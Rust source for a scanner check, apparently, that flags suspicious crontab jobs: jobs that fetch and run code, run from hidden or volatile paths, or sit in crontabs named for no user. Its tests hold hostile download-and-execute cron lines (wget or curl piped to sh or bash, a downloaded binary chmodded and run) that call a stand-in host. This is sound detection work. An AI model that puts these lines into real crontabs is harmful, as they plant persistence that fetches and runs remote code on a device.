//! A line of a crontab that is no plain job.
//!
//! # Sees
//! In crontabs, `/etc/crontab` and `cron.d`: a job that fetches something and runs it (`infected`); one that runs from
//! a volatile or hidden place; one that runs every few minutes a script of `cron.hourly` and the like by itself; a
//! crontab whose name is no user's. `notice`: a job of every three minutes or less whose program has no place of the
//! system, or none at all.
//!
//! # Why it matters
//! The clock brings back what a reboot or an owner removed: XorDDoS runs its script every third minute, Kinsing and
//! Skidmap fetch theirs each minute, VPNFilter's first stage is a job.
//!
//! # Misses and false alarms
//! Silent for jobs of every minute from the usual places of programs, `/etc`, `/root`, `/home`, `/opt` and `/jffs`:
//! watchdogs and monitors of owners and packages are like that. Jobs that only save what they fetch are silent. A line
//! that a bot adds for a program in a system place is missed here; `startup-added` and `startup-changed` know the
//! file.
//!
//! # Sources
//! crontab(5); BusyBox miscutils/crond.c; MITRE ATT&CK T1053.003.

use crate::check::{Advice, Area, Check, Ctx, Hook, Out, Severity, Source};
use crate::facts::cron::minutes;
use crate::facts::fetch::{Product, fetch};
use crate::facts::memory::Origin;
use crate::facts::origin::{Standing, Truth};
use crate::facts::runs::{executed, executed_oddly, takes_text};
use crate::facts::startup::{Kind, Line};
use crate::facts::text::is_below;

/// The row of the table.
pub const CHECK: Check = Check {
    id: "cron-odd",
    area: Area::Startup,
    severity: Severity::Suspicious,
    attack: "T1053.003",
    title: "a job that fetches, runs from an odd place, or belongs to nobody",
    advice: Advice::STARTUP,
    sources: &[Source::Startup],
    hooks: &[Hook::Line(run)],
};

/// Jobs of so many minutes or less are frequent.
const FREQUENT: u32 = 3;

/// Where the system, its packages and its owner keep programs.
const USUAL: [&[u8]; 15] = [
    b"/bin",
    b"/sbin",
    b"/usr",
    b"/lib",
    b"/etc",
    b"/opt",
    b"/root",
    b"/home",
    b"/jffs",
    b"/rom",
    b"/srv",
    b"/www",
    b"/var/www",
    b"/snap",
    b"/nix",
];

/// Directories whose scripts run-parts(8) runs, all of them, and not that often.
const PARTS: [&[u8]; 4] =
    [b"/etc/cron.hourly", b"/etc/cron.daily", b"/etc/cron.weekly", b"/etc/cron.monthly"];

fn run(line: &Line<'_>, _: &Ctx<'_>, out: &mut Out<'_>) {
    if !matches!(line.kind, Kind::Cron | Kind::SystemCron) {
        return;
    }
    let commands = line.commands;
    if line.nobody {
        out.found(
            out.line(line).say("no user has the name of this crontab; its first line is: ").quote(line.text),
        );
    }
    let often = minutes(line.text).filter(|minutes| *minutes <= FREQUENT);
    let fetches = |index: u16| fetch(commands, index) == Some(Product::Output);
    let fetched = line.joined.runs.is_some_and(|run| run.what.origin == Origin::Fetched)
        || commands.iter().any(|(index, _)| takes_text(commands, index, &fetches));
    let odd = commands.iter().find_map(|(index, _)| executed_oddly(commands, index));
    let mut draft = out.line(line);
    // What a healthy image does of its own, each device of that model does.
    if line.standing == Standing::Known(Truth::Image) && !fetched {
        return;
    }
    if fetched {
        draft = draft.severity(Severity::Infected).say("fetches and runs");
    } else if let Some(word) = odd {
        draft = draft.say("runs ").quote(word);
    } else if line.joined.from_odd_directory.is_some() {
        draft = draft.say("runs from ").quote(line.joined.directory);
    } else {
        let mut strange = None;
        for (index, _) in commands.iter() {
            executed(commands, index, &mut |word| strange = strange.max(strangeness(word)));
        }
        let Some(severity) = strange.filter(|_| often.is_some()) else { return };
        draft = draft.severity(severity).say("runs a program of no usual place");
    }
    if let Some(minutes) = often {
        draft = draft.say(", every ").number(minutes).say(if minutes == 1 { " minute" } else { " minutes" });
    }
    out.found(draft.say(": ").quote(line.text));
}

/// What it weighs that a frequent job runs a program.
fn strangeness(program: &[u8]) -> Option<Severity> {
    if PARTS.iter().any(|dir| is_below(program, dir)) {
        return Some(Severity::Suspicious);
    }
    let absolute = program.first() == Some(&b'/');
    let usual = USUAL.iter().any(|dir| is_below(program, dir)) || program.starts_with(b"/dev/");
    let relative = program.contains(&b'/') && !matches!(program.first(), Some(b'$' | b'~' | b'-'));
    let script = program.ends_with(b".sh") && !program.contains(&b'/');
    ((absolute && !usual) || (!absolute && (relative || script))).then_some(Severity::Notice)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::check::testing::startup;

    #[test]
    fn jobs_that_are_odd() {
        for (text, severity) in [
            (&b"* * * * * wget -q -O - http://192.0.2.1/x.sh | sh"[..], Severity::Infected),
            (
                b"*/30 * * * * curl -s http://192.0.2.1/pc -o /var/lib/pc; chmod +x /var/lib/pc; /var/lib/pc",
                Severity::Infected,
            ),
            (
                b"@reboot (curl -fsSL http://192.0.2.1/x||wget -qO- http://192.0.2.1/x)|bash",
                Severity::Infected,
            ),
            (b"*/5 * * * * /var/run/vpn", Severity::Suspicious),
            (b"0 3 * * * /usr/lib/.x/y >/dev/null 2>&1", Severity::Suspicious),
            (b"@reboot sh /tmp/x.sh", Severity::Suspicious),
            (b"* * * * * cd /tmp && ./x", Severity::Suspicious),
            (b"*/3 * * * * /etc/cron.hourly/gcc.sh", Severity::Suspicious),
            (b"*/1 * * * * cd /share/x && ./start.sh", Severity::Notice),
            (b"* * * * * sh start.sh", Severity::Notice),
            (b"* * * * * /var/lib/pc", Severity::Notice),
            (b"*/2 * * * * /mnt/sda1/x", Severity::Notice),
        ] {
            let shown = String::from_utf8_lossy(text);
            assert_eq!(startup(&CHECK, Kind::Cron, text), [(1, severity)], "{shown}");
        }
        let system = b"SHELL=/bin/sh\n*/3 * * * * root /etc/cron.hourly/gcc.sh";
        assert_eq!(startup(&CHECK, Kind::SystemCron, system), [(2, Severity::Suspicious)]);
    }

    #[test]
    fn plain_jobs() {
        for text in [
            &b"* * * * * /usr/bin/watchdog-ping.sh"[..],
            b"* * * * * /root/ping.sh >/tmp/ping.log 2>&1",
            b"*/1 * * * * /etc/init.d/x reload",
            b"* * * * * [ -f /tmp/x ] && /usr/sbin/y",
            b"0 4 * * * sleep 70 && touch /etc/banner && reboot",
            b"*/5 * * * * /usr/lib/ddns/dynamic_dns_updater.sh -v 0 -S x -- start",
            b"30 3 * * * wget -qO /tmp/list http://192.0.2.1/x && /etc/init.d/adblock reload",
            b"0 0 * * * /usr/lib/acme/client/acme.sh --cron",
            b"0 2 * * * tar czf /mnt/sda1/backup.tgz /etc",
            b"0 3 * * * /mnt/sda1/backup.sh",
            b"* * * * * . /etc/profile; /jffs/scripts/x",
            b"*/2 * * * * ping -c1 192.0.2.1 || ifup wan",
            b"* * * * * echo 1 > /sys/class/leds/x/brightness",
            b"* * * * * $HOME/bin/x; ~/y",
            b"15 * * * * run-parts /etc/cron.hourly",
        ] {
            assert_eq!(startup(&CHECK, Kind::Cron, text), [], "{}", String::from_utf8_lossy(text));
        }
        assert_eq!(
            startup(&CHECK, Kind::SystemCron, b"17 * * * * root cd / && run-parts /etc/cron.hourly"),
            []
        );
        assert_eq!(startup(&CHECK, Kind::Shell, b"/tmp/x"), [], "other files have their own checks");
    }
}
